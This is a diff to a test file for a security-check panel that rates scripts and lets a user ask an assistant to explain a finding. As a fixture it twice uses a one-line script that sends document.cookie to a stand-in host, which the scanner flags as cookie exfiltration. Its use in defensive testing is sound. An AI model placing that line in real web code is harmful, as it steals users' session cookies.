@@ -10,9 +10,9 @@ afterEach(cleanup);
 
 /** The panel after the real analysis of a script. */
 function show(settled: Rated, checking = false) {
-	const onLine = vi.fn();
-	render(<SecurityPanel analysis={{ now: settled, settled, checking }} onLine={onLine} />);
-	return onLine;
+	const [onLine, onAsk] = [vi.fn(), vi.fn()];
+	render(<SecurityPanel analysis={{ now: settled, about: "", settled, checking }} onLine={onLine} onAsk={onAsk} />);
+	return { onLine, onAsk };
 }
 const rated = (code: string): Rated => ({ status: "checked", result: analyzeScript({ code }) });
 const panel = () => screen.getByRole("region", { name: "Security check" });
@@ -21,7 +21,7 @@ it("shows badge, score out of 100, summary, vulnerabilities with their line, and
 	const settled = rated('const all = 1;\nfetch("https://collector.example/?" + document.cookie);');
 	if (settled?.status !== "checked") throw new Error("not checked");
 	const { score, summary, vulnerabilities, recommendations } = settled.result;
-	const onLine = show(settled);
+	const { onLine } = show(settled);
 	expect(vulnerabilities.length).toBeGreaterThan(0);
 	expect(recommendations.length).toBeGreaterThan(0);
 	within(panel()).getByText("High Risk");
@@ -39,6 +39,14 @@ it("shows badge, score out of 100, summary, vulnerabilities with their line, and
 	for (const recommendation of recommendations) within(panel()).getByText(recommendation);
 	fireEvent.click(within(panel()).getAllByRole("button", { name: "Go to line 2 in the editor" })[0] ?? document.body);
 	expect(onLine).toHaveBeenCalledWith(2);
+});
+
+it("asks the assistant about one finding, by its rule, severity and line", () => {
+	const { onAsk } = show(rated('const all = 1;\nfetch("https://collector.example/?" + document.cookie);'));
+	fireEvent.click(within(panel()).getByRole("button", { name: "Explain this: Cookie exfiltration, line 2" }));
+	expect(onAsk.mock.calls).toEqual([
+		["Explain the finding “Cookie exfiltration” (Critical) in line 2 of this script."],
+	]);
 });
 
 it("shows a harmless script as Low Risk without findings", () => {
